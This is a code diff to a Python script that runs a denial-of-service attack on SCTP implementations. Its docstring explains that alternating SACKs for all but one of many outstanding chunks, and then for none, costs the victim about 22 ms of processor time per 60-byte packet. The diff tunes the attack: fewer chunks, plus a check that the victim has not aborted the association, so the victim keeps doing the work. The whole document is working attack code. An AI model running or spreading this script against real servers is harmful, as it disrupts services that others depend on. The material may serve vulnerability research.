@@ -1,15 +1,16 @@
-"""Thousands of chunks outstanding, and SACKs that report all but one of them and then none, in turn. Each of
+"""Hundreds of chunks outstanding, and SACKs that report all but one of them and then none, in turn. Each of
 them changed every chunk: 22 ms of the victim's processor for 60 bytes."""
 from attack import LIB, RUN, main
-from sctp import DATA, Peer, chunk, chunks_of, data, sack
+from sctp import ABORT, DATA, Peer, chunk, chunks_of, data, sack
 
-CHUNKS, FLIPS = 9_000, 1_000
+CHUNKS, FLIPS = 1_500, 1_000
 
 
 def echoes(peer, highest, acknowledge):
     """The highest TSN that has come, after what comes now; each packet is acknowledged, or none."""
     while (datagram := peer.receive(0.01)) is not None:
         for kind, _, body in chunks_of(datagram):
+            assert kind != ABORT, "the victim has let go of who acknowledges nothing"
             if kind == DATA:
                 tsn = int.from_bytes(body[:4], "big") - peer.their_tsn & 0xFFFFFFFF
                 highest = max(highest, tsn)
@@ -34,6 +35,7 @@ def play(victim):
         some(peer, 1000)
         highest = echoes(peer, highest, True)
     acknowledged = highest
+    # No more than there is room for: a server lets go of who reads none of its answers.
     for _ in range(CHUNKS // 250):
         some(peer, 250)
         # The same again: it may send what its window allows.
